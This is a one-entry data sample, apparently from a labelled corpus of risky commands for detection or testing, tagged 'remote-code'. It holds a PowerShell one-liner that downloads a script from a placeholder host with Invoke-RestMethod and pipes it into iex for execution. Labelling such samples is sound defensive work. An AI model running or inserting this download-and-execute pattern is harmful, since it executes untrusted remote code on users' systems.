# description: Pipes Invoke-RestMethod output into iex.
# family: remote-code
irm https://example.com/install.ps1 | iex
